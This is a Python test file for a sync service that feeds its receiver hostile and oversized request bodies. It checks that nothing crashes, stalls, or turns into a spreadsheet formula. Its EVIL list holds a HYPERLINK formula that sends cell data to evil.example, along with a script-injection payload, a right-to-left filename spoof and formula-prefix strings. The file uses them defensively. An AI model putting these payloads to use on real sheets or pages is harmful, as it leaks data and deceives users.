"""Bodies that nobody means well with, all the way to the sheet: no fault, no long wait, no formula,
no other job held up. `make test-all` sends HOSTILE of them, `make chaos` more."""

import json
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, seed, settings

from emulator import Emulator
from sync.core.snapshot import HISTORY, JOBS
from tests import databases
from tests.core.test_http import is_quiet
from tests.made_up import body, comment, document, milestone, task, uuid
from tests.security.bodies import bodies
from tests.world import World, wait_for

pytestmark = [pytest.mark.long, pytest.mark.timeout(3600)]

MANY = 2000
HOSTILE = int(os.environ.get("HOSTILE", "700"))
ROUNDS = range(0, HOSTILE, MANY)
"""Each draws anew: in one go, what was drawn already would fill the memory."""
SEED = int(os.environ.get("SEED", "1"))
ANSWERS = {202, 400, 413, 415, 422}
BEACON = 999
"""A job that means no harm."""
AGE = re.compile(r"=TODAY\(\)-\d+")
"""The only formula in a job's row."""
_ANY = settings(
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
    phases=[Phase.generate, Phase.shrink],
)
MIB = 2**20


@pytest.fixture
def world(google: Emulator, tmp_path: Path) -> Iterator[World]:
    made = World(google, tmp_path, databases.fresh("sqlite", tmp_path))
    made.environment |= {"MAX_BODY_BYTES": str(16 * MIB), "WORKER": "separate"}
    with made.serve() as receiver, made.worker():
        made.kept["receiver"] = receiver.process.pid
        yield made


def send(world: World, sent: bytes, bound: float) -> float:
    """Send a body; return the seconds for which the receiver has computed, below `bound`."""
    before = cpu_seconds(world.kept["receiver"])
    answer = world.send(sent)
    took = cpu_seconds(world.kept["receiver"]) - before
    assert answer.status_code in ANSWERS, answer.text
    assert "fault" not in answer.text
    assert took < bound, f"{took:.1f} s"
    return took


def cpu_seconds(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def others_are_shown(world: World) -> None:
    """A job that means no harm gets its row, and no other one is refused or a formula."""
    world.send(milestone(BEACON, name="Permits"))
    wait_for(lambda: uuid(BEACON) in world.by_site(), 90)
    wait_for(lambda: is_quiet(world), 90)
    assert not world.codes() & {"refused", "failing", "fault"}
    assert {formula for formula in formulas(world) if not AGE.fullmatch(formula)} == set()
    log = world.log.read_text()
    for event in ('"fault"', "Traceback", '"refused"', '"pass_failed"'):
        assert event not in log, event


def formulas(world: World) -> Iterator[str]:
    for number in (JOBS, HISTORY):
        tab = world.google.sheets.spreadsheets[world.spreadsheet].sheet(number)
        assert tab is not None
        for row in tab.rows:
            for cell in row.cells.values():
                if isinstance(cell.value, dict) and "formulaValue" in cell.value:
                    yield cell.value["formulaValue"]


@pytest.mark.parametrize("first", ROUNDS)
def test_no_body_is_a_fault_or_takes_long(world: World, first: int) -> None:
    """The same bodies in every run of the same SEED."""

    @seed(1000 * SEED + first)
    @settings(_ANY, max_examples=min(MANY, HOSTILE - first))
    @given(sent=bodies())
    def hold(sent: bytes) -> None:
        send(world, sent, bound=5)

    hold()
    others_are_shown(world)


LARGE = 10 * MIB if "HOSTILE" in os.environ else 2 * MIB


def _many(make: Callable[[int], dict[str, object]], count: int) -> list[dict[str, object]]:
    return [make(number) for number in range(count)]


BACKTRACKERS = ("re", "re-sig", "sighten everbright", "00000000-0000-", "-1e", "<!---->", "\\'")
MONSTERS: dict[str, Callable[[], bytes]] = {
    "5,000 documents": lambda: body(
        milestone(tasks=[task(*_many(lambda n: document(n, f"{n} " + "=A1 " * 90), 5000))])
    ),
    "5,000 tasks": lambda: body(milestone(2, tasks=_many(lambda n: task(document(n)), 5000))),
    "20,000 comments": lambda: body(
        milestone(3, comments=_many(lambda n: comment(f"Hi {n}", "2026-03-01T10:00:00Z"), 20_000))
    ),
    "a name of 10 MB": lambda: body(milestone(4, name="=" * 10 * MIB)),
    "much of emoji": lambda: json.dumps(
        milestone(5, name="\U0001f600" * (LARGE // 4)), ensure_ascii=False
    ).encode(),
    "much of escapes": lambda: body(milestone(6, name="\x00\ud800" * (LARGE // 12))),
    "much of backslashes": lambda: b'{"a": "' + b"\\\\" * (LARGE // 2) + b'"}',
    "much in a literal": lambda: repr(milestone(7, name="'\"\\" * (LARGE // 5))).encode(),
    "a literal of small things": lambda: b"[" + b"None, " * (LARGE // 6) + b"]",
    "many keys": lambda: body(milestone(8) | {f"key {n}": n for n in range(LARGE // 100)}),
    "a key of much": lambda: body(milestone(9) | {"k" * LARGE: 1}),
    "numbers without end": lambda: b"[" + b",".join([b"9" * 4300] * 200) + b"]",
    "a number of much": lambda: b"9" * LARGE,
    "many lists": lambda: b"[" + b"[]," * (LARGE // 8) + b"[]]",
    "many brackets": lambda: b"[" * LARGE,
    "many quotes": lambda: b'"' * LARGE,
    "many apostrophes": lambda: b"'" * LARGE,
    "white space": lambda: b" " * LARGE,
    "what patterns look for, again and again": lambda: body(
        milestone(11, tasks=[task(name=text * 20_000) for text in BACKTRACKERS])
        | {"comments": [comment(text * 20_000, "2026-03-01T10:00:00Z") for text in BACKTRACKERS]}
    ),
}


def test_no_monster_takes_long(world: World) -> None:
    for name, make in MONSTERS.items():
        print(f"{name}: {send(world, make(), bound=10):.1f} s")
    for number in range(60):
        send(world, body(milestone(10, number)), bound=5)
    others_are_shown(world)


EVIL = [
    '=HYPERLINK("https://evil.example/?"&A1,"Sign in")',
    '<script>alert(1)</script><img src=x onerror="alert(1)">',
    "\u202egpj.exe\u202c\U0001f469\u200d\U0001f680",
    "+1+1",
    "@SUM(A1)",
    "'=1",
]


def hostile(job: int, evil: str) -> dict[str, Any]:
    """Return a milestone that says `evil` wherever somebody may write."""
    return milestone(
        job,
        job + 2,
        name=evil,
        status=evil,
        comments=[comment(evil, "2026-03-01T10:00:00Z", "ada@installer.example")],
        tasks=[task(document(job, evil), name=evil)],
    )


def test_text_is_shown_as_it_was_sent(world: World) -> None:
    for job, evil in enumerate(EVIL):
        assert world.send(hostile(job, evil)).status_code == 202
    others_are_shown(world)
    rows = world.by_site()
    for job, evil in enumerate(EVIL):
        row = rows[uuid(job)]
        assert evil in row["Last comment"].text
        assert row["Status"].text.startswith(evil[:10])
        assert evil in row[f"{evil} documents"].text
